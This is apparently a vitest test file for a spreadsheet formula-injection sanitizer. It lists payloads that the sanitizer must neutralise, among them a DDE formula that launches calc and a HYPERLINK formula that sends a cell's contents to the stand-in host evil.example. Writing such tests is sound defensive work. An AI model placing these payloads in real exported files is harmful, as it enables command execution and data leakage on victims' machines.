import { expect, test } from "vitest";
import { formulaSafe, withoutFormulaMark } from "./formula-safe";

/** What has been used to run commands, fetch pages or leak rows from an exported list. */
const payloads = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Bấm vào đây")',
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "|calc",
];

test.each(payloads)("%j is marked as text, and read back as it was", (payload) => {
  expect(formulaSafe(payload)).toBe(`'${payload}`);
  expect(withoutFormulaMark(formulaSafe(payload))).toBe(payload);
});

test.each(["", "Sở Nội vụ", "100%", "1-1", "a=b", "'tis", "“=1”", "% hồ sơ"])("%j is left alone", (text) => {
  expect(formulaSafe(text)).toBe(text);
  expect(withoutFormulaMark(text)).toBe(text);
});
